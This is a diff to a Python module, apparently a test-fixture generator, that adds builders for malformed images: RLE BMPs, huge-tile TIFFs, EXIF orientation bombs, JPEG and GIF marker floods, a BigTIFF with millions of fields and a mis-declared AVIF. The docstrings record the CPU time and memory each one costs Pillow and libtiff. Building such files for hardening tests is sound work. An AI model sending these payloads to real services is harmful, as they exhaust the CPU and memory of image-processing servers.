@@ -269,16 +269,19 @@ def _chunk(kind: bytes, payload: bytes) -> bytes:
 
 
 def _zeros_deflated(size: int, level: int = 9) -> bytes:
-    comp = zlib.compressobj(level)
-    block = b"\x00" * (1 << 20)
-    out = bytearray()
-    left = size
-    while left:
-        n = min(left, len(block))
-        out += comp.compress(block[:n])
-        left -= n
-    out += comp.flush()
-    return bytes(out)
+    """A zlib stream of `size` zeros, built in time proportional to its own length: after a
+    full flush the compressor forgets what came before, so every 1 MiB of zeros compresses to
+    the same bytes, which are repeated; the checksum of n zeros is (n mod 65521) << 16 | 1."""
+    block = 1 << 20
+    whole, rest = divmod(size, block)
+
+    def flushed(length: int) -> bytes:  # raw deflate blocks, without the 2-byte zlib header
+        comp = zlib.compressobj(level)
+        return (comp.compress(b"\x00" * length) + comp.flush(zlib.Z_FULL_FLUSH))[2:] if length else b""
+
+    final_empty_block = b"\x03\x00"
+    checksum = struct.pack(">I", ((size % 65521) << 16) | 1)
+    return b"\x78\xda" + flushed(block) * whole + flushed(rest) + final_empty_block + checksum
 
 
 def _png_ihdr(width: int, height: int, bit_depth: int = 8, color_type: int = 2) -> bytes:
@@ -407,25 +410,25 @@ def tiff_flat(
     bpp = spp * bps // 8
     if compression == 8:
 
-        def comp(raw: bytes) -> bytes:
-            return zlib.compress(raw, 9)
+        def zeros(size: int) -> bytes:
+            return _zeros_deflated(size)
     elif compression == 1:
 
-        def comp(raw: bytes) -> bytes:
-            return raw
+        def zeros(size: int) -> bytes:
+            return b"\x00" * size
     else:
         raise ValueError("compression 1 or 8")
     if tile:
         tw, th = tile
         across, down = -(-width // tw), -(-height // th)
-        one = comp(b"\x00" * (tw * th * bpp))
+        one = zeros(tw * th * bpp)
         pieces = [one] * (across * down)
     else:
         rows = rows_per_strip or max(1, min(height, (8 << 20) // max(1, width * bpp)))
         nstrips = -(-height // rows)
-        full = comp(b"\x00" * (width * rows * bpp))
+        full = zeros(width * rows * bpp)
         last_rows = height - rows * (nstrips - 1)
-        last = full if last_rows == rows else comp(b"\x00" * (width * last_rows * bpp))
+        last = full if last_rows == rows else zeros(width * last_rows * bpp)
         pieces = [full] * (nstrips - 1) + [last]
 
     def ifd_bytes(ifd_offset: int, data_offset: int, next_ifd: int) -> tuple[bytes, bytes]:
@@ -573,3 +576,151 @@ def webp_anim_big_canvas(width: int = 16_383, height: int = 16_383, frames: int 
     out[pos + 12 : pos + 15] = (width - 1).to_bytes(3, "little")
     out[pos + 15 : pos + 18] = (height - 1).to_bytes(3, "little")
     return bytes(out)
+
+
+# ----------------------------------------------------------------------------------------
+# 7. Cheap to send, costly to open: work that follows what the file declares, not its bytes
+# ----------------------------------------------------------------------------------------
+
+
+def bmp_rle(width: int = 7_000_000, height: int = 16, rle4: bool = False) -> bytes:
+    """RLE8 (or RLE4) BMP of width x height whose rows are one pixel and an end-of-line escape
+    (then end of bitmap): 128 bytes for 16 rows. Pillow's RLE decoder is Python and pads each row
+    to its width a byte at a time (24.9 s for 7,000,000x16)."""
+    palette = b"\x00\x00\x00\x00\xff\xff\xff\x00"
+    pixels = b"\x01\x00\x00\x00" * height + b"\x00\x01"
+    offset = 14 + 40 + len(palette)
+    info = struct.pack(
+        "<IiiHHIIiiII",
+        40,
+        width,
+        height,
+        1,
+        4 if rle4 else 8,
+        2 if rle4 else 1,
+        len(pixels),
+        2835,
+        2835,
+        2,
+        0,
+    )
+    return b"BM" + struct.pack("<IHHI", offset + len(pixels), 0, 0, offset) + info + palette + pixels
+
+
+def bmp_declared_huge(width: int = 10_000, height: int = 10_000) -> bytes:
+    """An uncompressed 24-bit BMP header declaring width x height, with no pixels after it."""
+    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
+    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + info
+
+
+def tiff_huge_tile(side: int = 64, tile: int = 16_384) -> bytes:
+    """An RGB side x side TIFF in one deflated tile of tile x tile zeros (783 KB for 16384):
+    libtiff allocates and inflates the whole tile (+813 MB) for a photo of 64x64."""
+    return tiff_flat(side, side, "RGB8", compression=8, tile=(tile, tile))
+
+
+def exif_orientation_bomb(values: int = 7_000_000) -> bytes:
+    """A big-endian EXIF block (TIFF structure, no "Exif" prefix) whose one field, the
+    orientation, holds `values` fractions: Pillow makes a Python object of each when asked for
+    the orientation (8 bytes each: 56 MB for 7 million)."""
+    entry = struct.pack(">HHII", 0x0112, 5, values, 26)
+    return (
+        b"MM\x00*"
+        + struct.pack(">IH", 8, 1)
+        + entry
+        + struct.pack(">I", 0)
+        + b"\x00\x00\x00\x01" * 2 * values
+    )
+
+
+def png_with_exif(exif: bytes) -> bytes:
+    """A 64x64 PNG whose eXIf chunk holds `exif`."""
+    return png_small(extra_before_idat=_chunk(b"eXIf", exif))
+
+
+def _riff_chunk(kind: bytes, payload: bytes) -> bytes:
+    return kind + struct.pack("<I", len(payload)) + payload + b"\x00" * (len(payload) & 1)
+
+
+def webp_with_exif(exif: bytes, width: int = 64, height: int = 64) -> bytes:
+    """An extended (VP8X) lossless WebP whose EXIF chunk holds `exif`."""
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.new("RGB", (width, height), (10, 200, 30)).save(buf, "WEBP", lossless=True)
+    simple = buf.getvalue()
+    vp8x = struct.pack("<I", 0x08) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
+    body = b"WEBP" + _riff_chunk(b"VP8X", vp8x) + simple[12:] + _riff_chunk(b"EXIF", exif)
+    return b"RIFF" + struct.pack("<I", len(body)) + body
+
+
+def tiff_with_orientation_values(values: int = 7_000_000, side: int = 64) -> bytes:
+    """An uncompressed 8-bit gray side x side TIFF whose orientation field holds `values`
+    fractions (8 bytes each), read by Pillow when asked for the orientation."""
+    pixels = b"\x80" * side * side
+    fields = [(256, 4, 1, side), (257, 4, 1, side), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
+    directory_size = 2 + 12 * 10 + 4
+    strip = 8 + directory_size
+    orientation_values = strip + len(pixels)
+    fields += [(273, 4, 1, strip), (274, 5, values, orientation_values), (277, 3, 1, 1)]
+    fields += [(278, 4, 1, side), (279, 4, 1, len(pixels))]
+    directory = struct.pack("<H", len(fields))
+    for tag, kind, count, value in fields:
+        if kind == 3 and count == 1:
+            directory += struct.pack("<HHIHH", tag, kind, count, value, 0)
+        else:
+            directory += struct.pack("<HHII", tag, kind, count, value)
+    directory += struct.pack("<I", 0)
+    return b"II*\x00" + struct.pack("<I", 8) + directory + pixels + b"\x01\x00\x00\x00" * 2 * values
+
+
+def _small_jpeg() -> bytes:
+
+    buf = io.BytesIO()
+    _photo_like(64, 64).save(buf, "JPEG", quality=90)
+    return buf.getvalue()
+
+
+def jpeg_segment_flood(segments: int = 15_999_000, marker: int = 0xFE) -> bytes:
+    """A 64x64 JPEG with `segments` empty COM (or APPn) segments after its start marker, 4 bytes
+    each (64 MB for 16 million): every one is a step of a marker walk in Python."""
+    data = _small_jpeg()
+    return data[:2] + bytes((0xFF, marker, 0x00, 0x02)) * segments + data[2:]
+
+
+def jpeg_fill_flood(fill: int = 63_000_000) -> bytes:
+    """A 64x64 JPEG with `fill` 0xFF fill bytes before its second marker, which the standard
+    allows; a byte-at-a-time reader takes seconds over 63 MB."""
+    data = _small_jpeg()
+    return data[:2] + b"\xff" * fill + data[2:]
+
+
+def gif_block_flood(blocks: int = 30_000_000, width: int = 64, height: int = 64) -> bytes:
+    """A GIF whose first frame follows one comment extension of `blocks` one-byte blocks (two
+    bytes each): Pillow reads them one at a time before it finds the frame."""
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.new("P", (width, height), 1).save(buf, "GIF")
+    data = buf.getvalue()
+    frame = data.index(b",", 13 + (3 << ((data[10] & 7) + 1) if data[10] & 0x80 else 13))
+    return data[:frame] + b"!\xfe" + b"\x01C" * blocks + b"\x00" + data[frame:]
+
+
+def bigtiff_many_fields(fields: int = 3_000_000) -> bytes:
+    """A BigTIFF whose first directory declares `fields` fields (20 bytes each, all present):
+    its count is a 64-bit number, and Pillow reads the fields one at a time in Python."""
+    entry = struct.pack("<HHQQ", 0x9C9C, 1, 1, 0)  # a private one-byte field
+    return (
+        b"II+\x00" + struct.pack("<HHQ", 8, 0, 16) + struct.pack("<Q", fields) + entry * fields + b"\x00" * 8
+    )
+
+
+def avif_coded_larger(side: int = 2_048, declared: int = 64) -> bytes:
+    """A flat AVIF coded at side x side whose ispe declares declared x declared: the AV1 decoder
+    decodes the coded frame (an 8192x8192 one took 0.7 s and 146 MB for a "64x64" photo)."""
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.new("RGB", (side, side), (10, 200, 30)).save(buf, "AVIF", quality=50, speed=10)
+    return _patch_ispe(buf.getvalue(), declared, declared)
